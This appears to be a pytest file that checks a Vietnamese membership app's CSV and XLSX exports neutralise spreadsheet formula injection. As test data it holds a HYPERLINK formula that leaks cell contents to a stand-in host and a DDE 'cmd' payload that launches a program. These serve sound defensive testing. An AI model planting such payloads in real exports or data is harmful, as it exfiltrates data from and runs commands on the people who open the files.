"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula
(quantriet/spreadsheets.py): a member named =HYPERLINK(...) downloads as that text."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from quantriet.orgs.models import Member, Unit
from quantriet.spreadsheets import write_csv, write_xlsx

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).worksheets[0]


def _download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_it_neutralises_a_formula_member_name_in_the_csv_export(province, client_for):
    Member.objects.filter(member_id="0101001").update(full_name=EVIL)
    data = _download(client_for(province.officer_h01).get(
        "/members/export/?unit=H01-X01-C01&format=csv"))
    rows = _csv_rows(data)
    name = rows[0].index("full_name")
    [row] = [r for r in rows if r[0] == "0101001"]
    assert row[name] == "'" + EVIL


def test_it_keeps_a_formula_member_name_as_text_in_the_xlsx_export(province, client_for):
    Member.objects.filter(member_id="0101001").update(full_name=EVIL)
    sheet = _sheet(_download(client_for(province.officer_h01).get(
        "/members/export/?unit=H01-X01-C01&format=xlsx")))
    headers = [c.value for c in sheet[1]]
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "0101001"]
    cell = row[headers.index("full_name")]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL, "s", True)


def test_it_neutralises_a_formula_unit_name_in_the_unit_export(province, client_for):
    Unit.objects.filter(code="H01-X01-C02").update(name="+cmd|' /C calc'!A0")
    rows = _csv_rows(_download(client_for(province.officer_h01).get(
        "/units/export/?unit=H01&format=csv")))
    [row] = [r for r in rows if r[0] == "H01-X01-C02"]
    assert row[1] == "'+cmd|' /C calc'!A0"


def test_it_reimports_its_own_neutralised_csv_unchanged(province, client_for):
    Member.objects.filter(member_id="0101001").update(full_name="-Nguyễn Văn An")
    client = client_for(province.officer_h01)
    data = _download(client.get("/members/export/?unit=H01-X01-C01&format=csv"))
    from quantriet.orgs.imports import read_table

    _headers, rows = read_table(data, "dang-vien.csv")
    [row] = [r for _n, r in rows if r["member_id"] == "0101001"]
    assert row["full_name"] == "-Nguyễn Văn An"


def test_every_formula_prefix_is_neutralised_and_numbers_stay_numbers():
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
    rows = [(*texts, -5, 2.5, 7, "bình thường")]
    csv_row = _csv_rows(write_csv(["a"] * 10, rows))[1]
    assert csv_row == ["'" + t for t in texts] + ["-5", "2.5", "7", "bình thường"]
    sheet = _sheet(write_xlsx([("T", ["a"] * 10, rows)]))
    cells = list(sheet[2])
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[:6]] == [
        (t, "s", True) for t in texts]
    assert [(c.value, c.data_type) for c in cells[6:9]] == [(-5, "n"), (2.5, "n"), (7, "n")]
    assert (cells[9].value, cells[9].quotePrefix) == ("bình thường", False)


def test_a_formula_header_is_text_too():
    sheet = _sheet(write_xlsx([("T", ["=cmd()"], [])]))
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=cmd()", "s")
    assert _csv_rows(write_csv(["=cmd()"], []))[0] == ["'=cmd()"]
